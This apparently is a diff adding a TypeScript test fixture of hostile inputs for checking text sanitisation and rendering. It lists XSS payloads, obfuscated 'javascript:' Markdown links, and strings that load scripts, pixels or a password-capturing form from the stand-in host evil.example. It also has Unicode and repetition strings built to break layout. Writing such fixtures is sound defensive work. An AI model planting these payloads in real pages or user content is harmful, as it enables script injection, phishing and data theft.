@@ -1,0 +1,105 @@
+const rtlOverride = '\u202E';
+const charsMax = 20_000;
+
+/** What would run if a text were ever taken for a page. Each of them would open a dialog or ask another server. */
+const scripts = [
+  '<script>alert(1)</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '"><script>alert(1)</script>',
+  '</textarea></title></style><script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://evil.example/pixel.gif">',
+  '<img src=`javascript:alert(1)`>',
+  '<image/src/onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><script href="data:text/javascript,alert(1)" />',
+  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
+  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">over all</div>',
+  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<template><script>alert(1)</script></template>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
+  '${alert(1)} {{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
+];
+
+/** Links that lead elsewhere than they say, or run. None of them is to become one. */
+const links = [
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt:alert(1))',
+  '[a](  javascript:alert(1))',
+  '[a](java\tscript:alert(1))',
+  '[a](<java\nscript:alert(1)>)',
+  '[a](\u0001javascript:alert(1))',
+  '[a](&#106;avascript:alert(1))',
+  '[a](&#x6A;&#x61;vascript&colon;alert(1))',
+  '[a](javascript&colon;alert(1))',
+  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:https://evil.example/1)',
+  '<javascript:alert(1)> <data:text/html,x>',
+  '[a][b]\n\n[b]: javascript:alert(1) "title"',
+  '![a](https://evil.example/pixel.gif) ![b][c]\n\n[c]: https://evil.example/other.gif',
+  '![a](javascript:alert(1) "onerror=alert(1)")',
+  '[![a](x)](javascript:alert(1))',
+];
+
+/** Writing that could stand out of its box, or that takes long to read. */
+const shapes = [
+  `${rtlOverride}gnp.exe \u2067right\u2066left\u2069 and on`,
+  `${'\u202E\u2066'.repeat(200)}deep`,
+  'in\u200Bvis\u200Cib\u200Dle\u2060\uFEFF\u00AD words',
+  `Za${'\u0310\u0342\u0489\u0315'.repeat(120)}lgo`,
+  'x'.repeat(charsMax),
+  `https://example.org/${'y'.repeat(2_000)}`,
+  '\uFDFD'.repeat(80),
+  '\u{1242B}\u{102A}'.repeat(60),
+  '>'.repeat(5_000),
+  '- '.repeat(2_000),
+  `${'['.repeat(2_000)}a${']'.repeat(2_000)}`,
+  `${'*'.repeat(4_000)}a${'_'.repeat(4_000)}`,
+  `${'**a '.repeat(2_000)}`,
+  `${'`'.repeat(3_000)} a`,
+  `|${'a|'.repeat(80)}\n|${'-|'.repeat(80)}\n|${'b|'.repeat(80)}`,
+  `|a|b|\n|-|-|\n${'|c|d|\n'.repeat(1_500)}`,
+  `${'\n'.repeat(500)}far below`,
+  `\`\`\`js\n${'z'.repeat(5_000)}\n\`\`\``,
+  '👨‍👩‍👧‍👦'.repeat(120),
+  '🏴󠁧󠁢󠁥󠁮󠁧󠁿🇻🇳👍🏽\u20E3❤️‍🔥'.repeat(40),
+  `1${'\u20E3'.repeat(200)}`,
+  'alone: \uD83D and \uDC4D',
+  'nothing\u0000 and \u0007bell \u001B[31mred',
+  '\u2028line\u2029paragraph\u0085next',
+  '@here@channel @<b>nobody</b> :<i>x</i>: ||<img src=x onerror=alert(1)>||',
+  `${'||a|| '.repeat(800)}`,
+];
+
+export const hostileTexts: readonly string[] = [...scripts, ...links, ...shapes];
+
+/** For what stands in one line, such as a name. */
+export const hostileNames: readonly string[] = [
+  '<img src=x onerror=alert(1)>',
+  '"><svg onload=alert(1)>',
+  `${rtlOverride}nimda`,
+  'W'.repeat(64),
+  '\uFDFD'.repeat(30),
+  `Za${'\u0310\u0342'.repeat(30)}lgo`,
+  '👨‍👩‍👧‍👦'.repeat(5),
+  '[a](javascript:alert(1))',
+  '{{7*7}} ${7*7}',
+];
